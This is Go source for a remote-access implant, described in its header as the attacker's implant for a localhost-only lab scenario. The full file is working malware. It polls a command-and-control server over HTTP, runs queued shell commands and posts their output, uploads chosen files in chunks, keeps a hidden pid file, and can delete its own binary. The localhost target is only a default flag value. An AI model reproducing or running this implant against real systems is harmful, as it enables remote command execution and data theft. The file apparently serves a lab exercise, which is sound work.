// ledger-gc: the ATTACKER's implant of scenario-ledger-receipt (lab only,
// harmless: it talks to 127.0.0.1 only and runs what the lab's C2 queues).
// A compiled Go program, as the small implants of real intrusions are:
// it polls the C2 over plain HTTP (GET /api/v2/updates?c=<id>, a JSON task
// or 204), runs a task's shell command with /bin/sh -c and POSTs the output
// to /api/v2/telemetry, and does some tasks natively, without any exec:
// "up" reads a file and POSTs it in 2 KiB chunks, "quit" exits, "exit" deletes
// its own binary and exits. Its pid goes to /dev/shm/.lgc.pid (the lab's
// clean-up kills it by that pid).
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"time"
)

type task struct {
	ID  string `json:"id"`
	Op  string `json:"op"`
	Arg string `json:"arg"`
}

func main() {
	base := flag.String("u", "http://127.0.0.1:8447", "C2 base URL")
	every := flag.Duration("i", 2*time.Second, "poll interval")
	life := flag.Duration("t", 15*time.Minute, "lifetime (the lab's bound)")
	flag.Parse()
	host, _ := os.Hostname()
	id := fmt.Sprintf("%s-%d", host, os.Getpid())
	os.WriteFile("/dev/shm/.lgc.pid", []byte(strconv.Itoa(os.Getpid())), 0o600)
	cl := &http.Client{Timeout: 15 * time.Second}
	post := func(path, ctype string, body []byte) {
		req, _ := http.NewRequest("POST", *base+path, bytes.NewReader(body))
		req.Header.Set("Content-Type", ctype)
		req.Header.Set("User-Agent", "Go-http-client/1.1")
		if resp, err := cl.Do(req); err == nil {
			resp.Body.Close()
		}
	}
	end := time.Now().Add(*life)
	for time.Now().Before(end) {
		resp, err := cl.Get(*base + "/api/v2/updates?c=" + id)
		if err != nil {
			time.Sleep(*every)
			continue
		}
		var t task
		if resp.StatusCode == 200 {
			json.NewDecoder(io.LimitReader(resp.Body, 1<<20)).Decode(&t)
		}
		resp.Body.Close()
		switch t.Op {
		case "sh":
			out, _ := exec.Command("/bin/sh", "-c", t.Arg).CombinedOutput()
			post("/api/v2/telemetry?c="+id+"&t="+t.ID, "text/plain", out)
		case "up":
			b, err := os.ReadFile(t.Arg)
			if err != nil {
				post("/api/v2/telemetry?c="+id+"&t="+t.ID, "text/plain", []byte(err.Error()))
				continue
			}
			n := 0
			for off := 0; off < len(b); off += 2048 {
				e := off + 2048
				if e > len(b) {
					e = len(b)
				}
				post(fmt.Sprintf("/api/v2/telemetry/blob?c=%s&t=%s&seq=%d", id, t.ID, n), "application/octet-stream", b[off:e])
				n++
				time.Sleep(300 * time.Millisecond)
			}
			post("/api/v2/telemetry?c="+id+"&t="+t.ID, "text/plain", []byte(fmt.Sprintf("%d bytes in %d chunks", len(b), n)))
		case "quit":
			post("/api/v2/telemetry?c="+id+"&t="+t.ID, "text/plain", []byte("bye"))
			os.Remove("/dev/shm/.lgc.pid")
			return
		case "exit":
			if exe, err := os.Executable(); err == nil {
				os.Remove(exe)
			}
			post("/api/v2/telemetry?c="+id+"&t="+t.ID, "text/plain", []byte("removed"))
			os.Remove("/dev/shm/.lgc.pid")
			return
		}
		time.Sleep(*every)
	}
}
